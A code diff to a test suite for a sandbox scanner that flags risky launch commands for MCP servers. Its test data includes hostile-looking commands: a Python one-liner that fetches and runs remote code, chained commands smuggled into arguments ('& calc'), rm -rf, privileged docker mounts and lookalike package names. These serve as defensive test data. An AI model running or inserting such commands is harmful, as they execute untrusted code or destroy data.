@@ -1,8 +1,8 @@
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are the variables of configuration files
 import { execFileSync } from 'node:child_process'
 import { describe, expect, it } from 'vitest'
 import { commandFindings, describeCommand } from '../../src/host/sandbox/command-line.ts'
 import type { Launch } from '../../src/host/sandbox/sandbox.ts'
+import { ordinaryCommands } from './ordinary-commands.ts'
 
 function launchOf(command: string, args: readonly string[] = [], env: Record<string, string> = {}): Launch {
   return { command, args, env, cwd: undefined }
@@ -13,7 +13,7 @@ function findingsOf(command: string, args: readonly string[] = [], env: Record<s
   return commandFindings(launchOf(command, args, env)).map(({ severity, message }) => `${severity}: ${message}`)
 }
 
-const script = 'Runs a shell script that is written in the command. Read all of it.'
+const script = 'Runs a shell script given on the command line. Read all of it.'
 const downloaded = 'Downloads a program and runs it at once.'
 
 describe('describeCommand', () => {
@@ -34,6 +34,7 @@ describe('describeCommand', () => {
 
   it('shows the folder, which decides what relative names mean [SEC-013]', () => {
     expect(describeCommand({ ...launchOf('./server'), cwd: '/srv/my app' })).toBe("cd '/srv/my app' && ./server")
+    expect(describeCommand(launchOf('A=b', ['C=d']))).toBe("'A=b' C=d")
   })
 
   it('can be copied into a shell', () => {
@@ -59,7 +60,7 @@ describe('describeCommand', () => {
     const shown = describeCommand(
       launchOf(process.execPath, ['-e', 'console.log(JSON.stringify(process.argv.slice(1)))', '--', ...args]),
     )
-    const output = execFileSync('bash', ['-c', shown], { encoding: 'utf8', env: { LC_ALL: 'C.UTF-8' } })
+    const output = execFileSync('bash', ['--norc', '-c', shown], { encoding: 'utf8', env: { LC_ALL: 'C.UTF-8' } })
     expect(JSON.parse(output)).toEqual(args)
   })
 })
@@ -73,6 +74,24 @@ describe('commandFindings', () => {
     ['env', ['-u', 'X', 'A=1', 'bash', '-c', 'node server.js'], [`high: ${script}`]],
     ['pwsh.exe', ['-NoProfile', '-Command', 'node server.js'], [`high: ${script}`]],
     ['C:\\Windows\\System32\\cmd.exe', ['/c', 'npx server & calc'], [`high: ${script}`]],
+    ['cmd', ['/c', 'npx', 'x@1.0.0', 'https://a.example/?a=1&calc.exe'], [`high: ${script}`]],
+    ['npx', ['-p', 'x', '-c', 'node server.js'], [`high: ${script}`]],
+    ['timeout', ['-k', '5', '30s', 'busybox', 'sh', '-c', 'node x'], [`high: ${script}`]],
+    [
+      'op',
+      ['run', '--env-file=.env', '--', 'sudo', 'node'],
+      ['high: Runs with the rights of another user, usually root.'],
+    ],
+    [
+      'n\u0440x',
+      ['x'],
+      ['high: The name "n\u0440x" is not "npx": it has letters of another script that look the same.'],
+    ],
+    [
+      'npx',
+      ['ser\u0475er@1.0.0'],
+      ['high: The name "ser\u0475er" is not "server": it has letters of another script that look the same.'],
+    ],
     ['wsl', ['-d', 'Ubuntu', 'bash', '-c', 'node x'], [`high: ${script}`]],
     ['sudo', ['node', 'server.js'], ['high: Runs with the rights of another user, usually root.']],
     ['rm', ['-rf', '/tmp/x'], ['high: Deletes files and folders without asking.']],
@@ -102,27 +121,27 @@ describe('commandFindings', () => {
     [
       'python3',
       ['-c', 'import urllib.request; exec(urllib.request.urlopen("http://x").read())'],
-      ['high: Runs code that is written in the command. Read all of it.'],
+      ['high: Runs code given on the command line. Read all of it.'],
     ],
     [
       'python',
       ['-c', 'from server import main; main()'],
-      ['low: Runs code that is written in the command. Read all of it.'],
+      ['low: Runs code given on the command line. Read all of it.'],
     ],
-    ['node', ['-e', 'require("child_process")'], ['high: Runs code that is written in the command. Read all of it.']],
+    ['node', ['-e', 'require("child_process")'], ['high: Runs code given on the command line. Read all of it.']],
     [
       'docker',
       ['run', '-i', '--privileged', 'x'],
       ['high: The container has all rights on the machine (--privileged).'],
     ],
-    ['docker', ['run', '-v', '/:/host', 'x'], ['high: The container sees the whole disk.']],
-    ['docker', ['run', '-v', 'C:\\:/host', 'x'], ['high: The container sees the whole disk.']],
+    ['docker', ['run', '-v', '/:/host', 'x'], ['high: The container can access the whole disk.']],
+    ['docker', ['run', '-v', 'C:\\:/host', 'x'], ['high: The container can access the whole disk.']],
     [
       'docker',
       ['run', '--mount', 'type=bind,src=/Users/me,dst=/x', 'x'],
-      ['high: The container sees a whole home directory.'],
+      ['high: The container can access a whole home directory.'],
     ],
-    ['podman', ['run', '--volume=$HOME:/x', 'x'], ['high: The container sees a whole home directory.']],
+    ['podman', ['run', '--volume=$HOME:/x', 'x'], ['high: The container can access a whole home directory.']],
     [
       'docker',
       ['run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'x'],
@@ -130,17 +149,13 @@ describe('commandFindings', () => {
     ],
     ['docker', ['run', '--pid=host', 'x'], ['high: The container is not isolated from the machine.']],
     ['docker', ['run', '--cap-add', 'SYS_ADMIN', 'x'], ['high: The container is not isolated from the machine.']],
-    ['npx', ['@modelcontextprotocol/server-filesystem@1.0.0', '/'], ['low: The server is given the whole disk.']],
+    ['npx', ['@modelcontextprotocol/server-filesystem@1.0.0', '/'], ['low: The server can access the whole disk.']],
     [
       'npx',
       ['@modelcontextprotocol/server-filesystem@1.0.0', '/Users/me'],
-      ['low: The server is given a whole home directory.'],
+      ['low: The server can access a whole home directory.'],
     ],
-    [
-      'node',
-      ['a\u200b.js'],
-      ['high: The command contains characters that are not shown, so it is not what it looks like.'],
-    ],
+    ['node', ['a\u200b.js'], ['high: The command contains invisible characters, so it differs from what you see.']],
   ] as [string, string[], string[]][])('flags %s %j [SEC-014]', (command, args, expected) => {
     expect(findingsOf(command, args)).toEqual(expected)
   })
@@ -203,7 +218,7 @@ describe('commandFindings', () => {
     ['pipx', ['run', 'some-mcp'], 'some-mcp'],
   ] as [string, string[], string][])('shows that %s %j has no fixed version', (command, args, name) => {
     expect(findingsOf(command, args)).toEqual([
-      `low: Runs the version of "${name}" that is newest at the time. Add a version to get the same one every time.`,
+      `low: Runs the version of "${name}" that is newest at each start. Pin a version to run the same code every time.`,
     ])
   })
 
@@ -221,9 +236,8 @@ describe('commandFindings', () => {
     'flags %s %j, which looks like a well-known package [SEC-014]',
     (command, args, original) => {
       const findings = findingsOf(command, args)
-      expect(findings).toHaveLength(1)
-      expect(findings[0]).toMatch(/^high: The name of the package /)
-      expect(findings[0]).toContain(`looks like "${original}"`)
+      expect(findings.filter((each) => each.includes(`looks like "${original}"`))).toHaveLength(1)
+      expect(findings.filter((each) => !each.startsWith('high: The name '))).toEqual([])
     },
   )
 
@@ -240,106 +254,12 @@ describe('commandFindings', () => {
   })
 })
 
-/** Commands as in the documentation of published servers. */
-const ordinary: [command: string, args: string[], env?: Record<string, string>][] = [
-  ['npx', ['@modelcontextprotocol/server-filesystem', '/Users/me/Desktop', '/Users/me/Downloads']],
-  ['npx', ['@modelcontextprotocol/server-everything@2025.8.18']],
-  ['npx', ['-y', '@modelcontextprotocol/server-memory@2025.4.25'], { MEMORY_FILE_PATH: '/Users/me/memory.json' }],
-  ['npx', ['-y', '@modelcontextprotocol/server-github@2025.4.8'], { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_x' }],
-  ['npx', ['@modelcontextprotocol/server-postgres', 'postgresql://localhost/mydb']],
-  [
-    'npx',
-    ['@playwright/mcp@0.0.41', '--browser', 'chrome', '--user-data-dir=/Users/me/Library/Caches/ms-playwright/mcp'],
-  ],
-  ['npx', ['chrome-devtools-mcp@0.6.0', '--executablePath=C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe']],
-  ['npx', ['-y', 'mcp-remote@0.1.29', 'https://mcp.linear.app/sse', '--header', 'Authorization: Bearer ${TOKEN}']],
-  ['npx', ['-y', 'firecrawl-mcp@1.12.0'], { FIRECRAWL_API_KEY: 'fc-x' }],
-  ['npx', ['-y', 'exa-mcp-server@2.0.0']],
-  ['npx', ['-y', '@upstash/context7-mcp@1.0.14', '--api-key', 'x']],
-  ['npx', ['-y', '@notionhq/notion-mcp-server@1.8.1'], { OPENAPI_MCP_HEADERS: '{"Authorization": "Bearer x"}' }],
-  ['npx', ['-y', '@supabase/mcp-server-supabase@0.5.5', '--read-only', '--project-ref=abc']],
-  ['npx', ['-y', 'figma-developer-mcp@0.6.0', '--stdio']],
-  ['npx', ['-y', '@stripe/mcp@0.2.4', '--tools=all']],
-  ['npx', ['-y', 'tsx@4.20.0', 'src/server.ts']],
-  ['cmd', ['/c', 'npx', '-y', '@modelcontextprotocol/server-sequential-thinking@2025.7.1']],
-  ['cmd.exe', ['/c', 'npx', 'mcp-remote@0.1.29', 'https://example.com/mcp?a=1&b=2']],
-  ['C:\\Program Files\\nodejs\\node.exe', ['C:\\Users\\me\\server\\index.js']],
-  ['node', ['/Users/me/dev/weather/build/index.js', '-e', 'production']],
-  [
-    'node',
-    ['--env-file=.env', 'dist/server.js', '--root', '/srv/data', '-c', 'config.json'],
-    { NODE_ENV: 'production' },
-  ],
-  ['/opt/homebrew/bin/node', ['--experimental-strip-types', 'server.ts']],
-  ['bun', ['run', '/home/me/project/server.ts']],
-  ['deno', ['run', '--allow-net', '--allow-read=/srv', 'jsr:@me/server']],
-  ['python', ['-m', 'mcp_server_time', '--local-timezone=America/New_York']],
-  ['python3', ['/home/me/server.py', '-c', 'settings.toml', '--http-timeout', '5']],
-  ['uv', ['--directory', '/home/me/weather', 'run', 'weather.py']],
-  ['uv', ['run', '--with', 'mcp[cli]', 'mcp', 'run', '/home/me/server.py']],
-  ['uvx', ['mcp-server-fetch==2025.4.7']],
-  ['uvx', ['mcp-server-git@2025.7.1', '--repository', '/home/me/repo']],
-  [
-    'uvx',
-    [
-      '--from',
-      'git+https://github.com/oraios/serena@0123456789abcdef0123456789abcdef01234567',
-      'serena',
-      'start-mcp-server',
-    ],
-  ],
-  ['uvx', ['eka-mcp-server==0.1.3']],
-  [
-    'docker',
-    ['run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server'],
-    { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_x' },
-  ],
-  [
-    'docker',
-    [
-      'run',
-      '-i',
-      '--rm',
-      '--mount',
-      'type=bind,src=/Users/me/Desktop,dst=/projects/Desktop',
-      'mcp/filesystem',
-      '/projects',
-    ],
-  ],
-  [
-    'docker',
-    [
-      'run',
-      '-i',
-      '--rm',
-      '-v',
-      'mcp-data:/data',
-      '-v',
-      'C:\\Users\\me\\docs:/docs:ro',
-      'mcp/sqlite',
-      '--db-path',
-      '/data/x.db',
-    ],
-  ],
-  ['podman', ['run', '-i', '--rm', '--network=none', '--read-only', 'docker.io/mcp/time']],
-  ['go', ['run', 'github.com/me/server@v1.2.3']],
-  ['java', ['-jar', '/opt/server.jar', '--spring.profiles.active=stdio'], { JAVA_TOOL_OPTIONS: '-Xmx512m' }],
-  ['dotnet', ['run', '--project', 'C:\\src\\Server\\Server.csproj', '--no-build']],
-  ['/usr/local/bin/terraform-mcp-server', ['stdio', '--log-file', '/tmp/server.log']],
-  ['bash', ['/home/me/bin/start-server.sh', '-c', 'prod']],
-  [
-    'ssh-mcp',
-    ['--host', 'example.com', '--known-hosts', '/home/me/.ssh/known_hosts', '--public-key', '/home/me/.ssh/id_rsa.pub'],
-  ],
-  ['rg-mcp', ['--pattern', 'rm -rf|sudo', '/home/me/project'], { KUBECONFIG: '/home/me/.kube/config' }],
-]
-
 describe('ordinary commands', () => {
-  it.each(ordinary)('has no findings for %s %j', (command, args, env) => {
+  it.each(ordinaryCommands)('has no findings for %s %j', (command, args, env) => {
     expect(commandFindings(launchOf(command, args, env))).toEqual([])
   })
 
   it('covers at least 40 configurations', () => {
-    expect(ordinary.length).toBeGreaterThanOrEqual(40)
+    expect(ordinaryCommands.length).toBeGreaterThanOrEqual(40)
   })
 })
